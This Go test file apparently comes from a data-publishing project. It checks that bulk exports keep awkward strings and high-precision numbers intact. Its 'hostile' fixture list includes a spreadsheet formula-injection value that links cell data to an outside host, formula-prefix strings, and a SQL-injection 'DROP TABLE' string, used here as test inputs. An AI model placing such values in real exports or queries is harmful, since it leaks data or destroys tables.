package bulk_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"testing/fstest"

	"stele/internal/compile/compiler"
	"stele/internal/compile/render"
	"stele/internal/show/bulk"
	"stele/internal/show/series"
	"stele/internal/testkit/must"
	"stele/internal/testkit/specimen"
	"stele/record"
	"stele/release"
)

// hostile are texts that a format or a tool might garble.
var hostile = []string{
	`=HYPERLINK("https://example.org/?"&A1,"look")`, `+1+1`, `-1+1`, `@SUM(A1)`, "\tTab first", `'=1`,
	`"quoted", with a comma; and a semicolon`, "two\nlines", "two\r\nlines", "a line\n", "\n\nlines around\n\n", "\r\nof Windows\r\n", "of old\rmachines", "a \ufeffmark \u0085 \u00a0", `back\slash \n \. \N`, ` spaces around `,
	"Zürich, Łódź, 東京, \u2028, 😀, e\u0301", `NULL`, `null`, `NA`, `nan`, `true`, `0123`, `1e5`, `2026-01-01`, `{"json":[1]}`, `[1,2]`, `'; DROP TABLE record; --`, `<b>&amp;</b>`, `a|b`, `%00`,
}

// digits are numbers whose digits a computer does not keep.
var digits = []string{"0.050", "-0.0", "1e2", "1E+2", "123456789012345678901234567890", "0.1000000000000000055511151231257827", "9007199254740993", "-12.50", "100"}

const hostileSignal = `{"id":"sig-hostile-%d","version":1,"title":"A title","summary":%s,"claim_boundary":{"statement":%[2]s},"source_links":[{"url":"https://example.org/","role":"primary"}],` +
	`"verification_date":"2026-11-01","source_updates":[],"corrections":[],"published_date":"2026-01-10","updated_date":"2026-11-01","signal_type":"trend","observation":%[2]s,"detected_date":"2026-01-10",` +
	`"statistic_ids":["sta-digits-0"],"see_also":["sta-digits-1","sta-digits-1"],"x_note":%[2]s,"x_number":1.50,"x_none":null}`

const digitsStatistic = `{"id":"sta-digits-%d","version":1,"title":"Digits %[1]d","summary":"Digits.","claim_boundary":{"statement":"Says nothing else."},"source_links":[{"url":"https://example.org/","role":"primary"}],` +
	`"verification_date":"2026-11-01","source_updates":[],"corrections":[],"published_date":"2026-01-10","updated_date":"2026-11-01","indicator":"digits","ref_area_scheme":"iso3166","ref_area":"CHE",` +
	`"time_period":"20%02[1]d","value":%[2]s,"unit":"one","unit_label":"one","obs_status":"A","dimensions":{"sex":"all"}}`

// folder is the sample with records that are hard to carry over.
func folder(t *testing.T) fstest.MapFS {
	t.Helper()
	files := must.Get(specimen.Sample())(t)
	var signals, statistics strings.Builder
	for i, text := range hostile {
		quoted := must.Get(json.Marshal(text))(t)
		signals.WriteString(fmt.Sprintf(hostileSignal, i, quoted) + "\n")
	}
	for i, number := range digits {
		statistics.WriteString(fmt.Sprintf(digitsStatistic, i, number) + "\n")
	}
	files["records/signals/hostile.ndjson"] = &fstest.MapFile{Data: []byte(signals.String())}
	files["records/healthcare-statistics/digits.ndjson"] = &fstest.MapFile{Data: []byte(statistics.String())}
	return files
}

// makeRelease builds a folder with downloads and answers with where the release lies.
func makeRelease(t *testing.T, files fs.FS, downloads string) (dir string) {
	t.Helper()
	return makeReleaseAfter(t, files, downloads, nil)
}

// makeReleaseAfter writes the release that comes after another, which may be nil.
func makeReleaseAfter(t *testing.T, files fs.FS, downloads string, before *release.Release) (dir string) {
	t.Helper()
	var choice bulk.Choice
	must.Do(t, choice.Set(downloads))
	dir = filepath.Join(t.TempDir(), "public")
	must.Get(specimen.BuildTo(dir, files, compiler.Options{
		Date: "2026-11-15", Previous: before, NoVariants: true,
		Render: []render.Renderer{choice.Write, (&series.Series{Choice: choice}).Write},
	}))(t)
	return dir
}

// whole is a release with all downloads, made once for the tests that only read it.
var whole struct {
	once sync.Once
	dir  string
}

func TestMain(m *testing.M) {
	code := m.Run()
	if whole.dir != "" {
		os.RemoveAll(whole.dir) // in the folder for temporary files
	}
	os.Exit(code)
}

// wholeRelease is where a release of the hard folder with all downloads lies.
func wholeRelease(t *testing.T) (dir string) {
	t.Helper()
	whole.once.Do(func() {
		dir := must.Get(os.MkdirTemp("", "stele-test-"))(t)
		whole.dir = dir
		must.Do(t, os.Rename(makeRelease(t, folder(t), "ndjson,csv,parquet,sqlite"), filepath.Join(dir, "public")))
	})
	dir = filepath.Join(whole.dir, "public")
	if _, err := os.Stat(dir); err != nil {
		t.Fatalf("an earlier test could not make the release: %v", err)
	}
	return dir
}

// collection are the records of a kind as published, by ID, with the digits of their numbers. A
// member that is null is as one that is not there.
func collection(t *testing.T, dir string, k *record.Kind) map[string]map[string]any {
	t.Helper()
	r := must.Get(release.Open(context.Background(), os.DirFS(dir)))(t)
	records := map[string]map[string]any{}
	for line, err := range r.Records(k.Name) {
		must.Do(t, err)
		rec := parse(t, string(line)).(map[string]any)
		for name, value := range rec {
			if value == nil && !strings.HasPrefix(name, "x_") {
				delete(rec, name)
			}
		}
		records[rec["id"].(string)] = rec
	}
	if len(records) == 0 {
		t.Fatalf("no %s", k.Many)
	}
	return records
}

// parse reads JSON and keeps the digits of numbers.
func parse(t *testing.T, text string) (value any) {
	t.Helper()
	d := json.NewDecoder(strings.NewReader(text))
	d.UseNumber()
	if err := d.Decode(&value); err != nil {
		t.Fatalf("%q: %v", text, err)
	}
	return value
}
